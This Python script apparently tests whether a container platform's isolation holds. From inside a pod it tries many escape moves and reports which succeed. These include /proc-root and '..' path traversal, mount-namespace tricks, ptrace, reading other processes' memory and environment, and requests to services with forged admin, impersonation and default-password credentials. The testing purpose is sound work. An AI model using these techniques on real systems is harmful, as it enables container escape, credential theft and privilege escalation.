"""What runs in an attacker's pod: every call on every target in every form, and what came of it.

It reads a plan (JSON: secrets, targets, sockets, pids, services, seed, limit, visits) and prints
`tries` and what succeeded. Standard library only; the platform's own code is not imported.
"""

from __future__ import annotations

import ctypes
import itertools
import json
import os
import random
import resource
import socket
import ssl
import sys
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
ROOT = os.environ.get("POD_ROOT", "")
OPENAT2, PIDFD_GETFD, URING = 437, 438, 425  # the same on every machine
KEYCTL = {"x86_64": 250}.get(os.uname().machine, 219)


def call(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def read(path: str) -> bytes:
    number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(number, 4096)
    finally:
        os.close(number)


def hold(path: str, flags: int) -> None:
    os.close(os.open(path, flags, 0o666))


def in_child(act: Callable[[], Any]) -> bool:
    child = os.fork()
    if child == 0:
        status = 1
        try:
            act()
            status = 0
        finally:
            os._exit(status)
    if os.waitpid(child, 0)[1]:
        raise PermissionError
    return True


def through_mount(path: str) -> None:
    call(libc.unshare(0x10020000))
    call(libc.mount(path.encode(), f"{ROOT}/tmp".encode(), None, 4096, None))


def names_in(folder: str) -> bool:
    if os.path.realpath(folder) == "/etc":
        raise PermissionError  # its public names are no secret
    os.listdir(folder)
    return True


# By files: each returns what it read, or True for a change that was accepted.
FILES: dict[str, Callable[[str], Any]] = {
    "read": read,
    "write": lambda p: hold(p, os.O_WRONLY),
    "append": lambda p: hold(p, os.O_WRONLY | os.O_APPEND),
    "truncate": lambda p: os.truncate(p, 0),
    "empty": lambda p: hold(p, os.O_WRONLY | os.O_TRUNC),
    "create": lambda p: hold(p + "-new", os.O_WRONLY | os.O_CREAT),
    "unlink": lambda p: os.unlink(p),
    "rename": lambda p: os.rename(p, p + "-moved"),
    "take": lambda p: os.rename(p, f"{ROOT}/taken"),
    "link": lambda p: (os.link(p, f"{ROOT}/linked"), read(f"{ROOT}/linked"))[1],
    "replace": lambda p: (os.symlink("x", f"{ROOT}/tmp/x"), os.replace(f"{ROOT}/tmp/x", p)),
    "mkdir": lambda p: os.mkdir(p + "-folder"),
    "list": lambda p: names_in(os.path.dirname(p)),
    "chmod": lambda p: os.chmod(p, 0o777),
    "chmod-folder": lambda p: os.chmod(os.path.dirname(p), 0o777),
    "chown": lambda p: os.chown(p, os.getuid(), os.getgid()),
    "lchown": lambda p: os.lchown(p, os.getuid(), os.getgid()),
    "utime": lambda p: os.utime(p, (1, 1)),
    "setxattr": lambda p: os.setxattr(p, "user.taken", b"1"),
    "chdir-read": lambda p: (os.chdir(os.path.dirname(p)), read(os.path.basename(p)))[1],
    "execute": lambda p: in_child(lambda: os.execv(p, [p])),
    "openat2": lambda p: openat2(p),
    "mount": lambda p: in_child(lambda: through_mount(os.path.dirname(p))),
}


def openat2(path: str) -> bytes:
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    number = call(libc.syscall(OPENAT2, -100, path.encode(), how, ctypes.c_size_t(24)))
    try:
        return os.read(number, 4096)
    finally:
        os.close(number)


def through_link(path: str) -> str:
    folder, name = os.path.split(path)
    link = f"{ROOT}/tmp/link-{abs(hash(folder))}"
    if not os.path.islink(link):
        os.symlink(folder, link)
    return f"{link}/{name}"


# How a path is written.
FORMS: dict[str, Callable[[str], str]] = {
    "plain": lambda p: p,
    "up": lambda p: f"{ROOT}{'/..' * 20}{p}",
    "proc-root": lambda p: f"/proc/self/root{p}",
    "proc-cwd": lambda p: f"/proc/self/cwd{'/..' * 20}{p}",
    "thread-root": lambda p: f"/proc/thread-self/root{p}",
    "parent-root": lambda p: f"/proc/{os.getppid()}/root{p}",
    "init-root": lambda p: f"/proc/1/root{p}",
    "link": through_link,
    "slashes": lambda p: p.replace("/", "//./"),
    "descriptor": lambda p: f"/proc/self/fd/{os.open('/', os.O_PATH)}{p}",
}


def stream(path: str, kind: int = socket.SOCK_STREAM) -> bytes:
    with socket.socket(socket.AF_UNIX, kind) as client:
        client.settimeout(1)
        client.connect(path)
        client.send(b"taken")
        return client.recv(100)


def pair(path: str, kind: int, connects: bool) -> bool:
    ours, theirs = socket.socketpair(socket.AF_UNIX, kind)
    with ours, theirs:
        if connects:
            ours.connect(path)
            ours.send(b"taken")
        else:
            ours.sendto(b"taken", path)
    return True


def datagram(path: str) -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        client.sendto(b"taken", path)
    return True


def ring(_: str) -> bool:
    parameters = ctypes.create_string_buffer(120)
    os.close(call(libc.syscall(URING, 4, parameters)))
    return True


def keys(_: str) -> bool:
    call(libc.syscall(KEYCTL, 0, -4, 1))  # the serial number of the user's keyring
    return True


def device(_: str) -> bool:
    os.mknod(f"{ROOT}/tmp/device", 0o20600, os.makedev(1, 1))
    return True


def capabilities(_: str) -> bool:
    """Succeed when this program has one of root's rights beyond ports below 1024."""
    with open("/proc/self/status") as file:
        rows = dict(line.split(":\t", 1) for line in file if line.startswith("Cap"))
    if int(rows["CapEff"], 16) & ~(1 << 10) == 0:
        raise PermissionError
    return True


SOCKETS: dict[str, Callable[[str], Any]] = {
    "stream": stream,
    "packets": lambda p: stream(p, socket.SOCK_SEQPACKET),
    "datagram": datagram,
    "pair-connect": lambda p: pair(p, socket.SOCK_DGRAM, True),
    "pair-send": lambda p: pair(p, socket.SOCK_DGRAM, False),
    "raw-pair": lambda p: pair(p, socket.SOCK_RAW, False),
    "flagged-pair": lambda p: pair(p, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC, True),
    "io_uring": ring,
    "keys": keys,
    "device": device,
    "capabilities": capabilities,
}


PROCESSES: dict[str, Callable[[int], Any]] = {
    "environment": lambda pid: (read(f"/proc/{pid}/environ"), True)[1],
    "memory": lambda pid: (open(f"/proc/{pid}/mem", "rb").close(), True)[1],
    "maps": lambda pid: (read(f"/proc/{pid}/maps"), True)[1],
    "folder": lambda pid: (os.listdir(f"/proc/{pid}/cwd/"), True)[1],
    "files": lambda pid: (os.readlink(f"/proc/{pid}/fd/0"), True)[1],
    "signal": lambda pid: (os.kill(pid, 0), True)[1],
    "trace": lambda pid: (call(libc.ptrace(16, pid, 0, 0)), True)[1],
    "descriptor": lambda pid: call(libc.syscall(PIDFD_GETFD, os.pidfd_open(pid), 0, 0)) or True,
    "priority": lambda pid: (os.setpriority(os.PRIO_PROCESS, pid, 5), True)[1],
    "limit": lambda pid: (resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0)), True)[1],
}


# By requests: who one says to be. A service that answers with anything but a no has been opened.
ACCOUNT = f"{ROOT}/var/run/secrets/kubernetes.io/serviceaccount/token"
CLAIMS: dict[str, Callable[[], dict[str, str]]] = {
    "nobody": lambda: {},
    "account": lambda: bearer(read(ACCOUNT).decode()),
    "empty": lambda: bearer(""),
    "proxy": lambda: {"X-Remote-User": "admin", "X-Remote-Group": "system:masters"},
    "impersonation": lambda: {
        **bearer(read(ACCOUNT).decode()),
        "Impersonate-User": "admin",
        "Impersonate-Group": "system:masters",
    },
    "password": lambda: {"Authorization": "Basic YWRtaW46YWRtaW4="},
    "session": lambda: {"X-BDS-SESSION": "/api/v2/session/1"},
}
METHODS = ("GET", "POST", "PATCH", "DELETE")


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def trusting() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


TRUST = trusting()


def visit(method: str, url: str, claim: str) -> bool:
    body = b"{}" if method != "GET" else None
    headers = {"Content-Type": "application/json", **CLAIMS[claim]()}
    asked = urllib.request.Request(url, body, headers, method=method)
    with urllib.request.urlopen(asked, timeout=20, context=TRUST) as answer:
        answer.read(4096)
    return True


def plan_tries(plan: dict[str, Any]) -> list[tuple[str, Callable[[], Any]]]:
    """Return all tries in a random order, at most as many as the plan says."""
    tries = [
        (f"{name} {form} {path}", lambda act=act, form=form, path=path: act(FORMS[form](path)))
        for (name, act), form, path in itertools.product(FILES.items(), FORMS, plan["targets"])
    ]
    tries += [
        (f"{name} {path!r}", lambda act=act, path=path: act(path))
        for (name, act), path in itertools.product(SOCKETS.items(), plan["sockets"])
    ]
    tries += [
        (f"{name} {pid}", lambda act=act, pid=pid: act(pid))
        for (name, act), pid in itertools.product(PROCESSES.items(), plan["pids"])
    ]
    chance = random.Random(plan["seed"])
    visits = list(itertools.product(METHODS, plan["services"], CLAIMS))
    chance.shuffle(visits)
    tries += [
        (f"{method} {url} as {claim}", lambda one=(method, url, claim): visit(*one))
        for method, url, claim in visits[: plan["visits"]]
    ]
    chance.shuffle(tries)
    return tries[: plan["limit"]]


def succeeded(plan: dict[str, Any]) -> Iterator[str]:
    """Yield the names of the tries that did something, or that read the secret."""
    secrets = [secret.encode("latin-1") for secret in plan["secrets"]]
    for name, act in plan_tries(plan):
        here = os.open(".", os.O_PATH)
        try:
            found = act()
            if not isinstance(found, bytes) or any(secret in found for secret in secrets):
                yield name
        except (OSError, ValueError):
            continue
        finally:
            os.fchdir(here)
            os.close(here)


def main() -> None:
    with open(sys.argv[1]) as file:
        plan = json.load(file)
    done = {"successes": list(succeeded(plan)), "tries": len(plan_tries(plan))}
    print("REPORT " + json.dumps(done), flush=True)


if __name__ == "__main__":
    main()
